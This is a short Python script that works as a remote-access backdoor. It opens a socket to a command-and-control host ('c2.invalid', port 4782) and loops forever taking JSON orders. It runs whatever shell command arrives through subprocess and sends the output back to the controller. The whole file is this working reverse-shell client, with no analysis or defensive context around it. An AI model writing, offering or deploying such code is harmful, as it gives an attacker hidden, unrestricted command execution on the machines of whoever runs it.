import json
import socket
import subprocess


class Agent:
    def __init__(self):
        self.line = socket.socket()
        self.line.connect(("c2.invalid", 4782))

    def do_shell(self, text):
        return subprocess.getoutput(text)

    def run(self):
        while True:
            order = json.loads(self.line.recv(65535))
            self.line.sendall(getattr(self, "do_" + order["c"])(order["a"]).encode())


Agent().run()
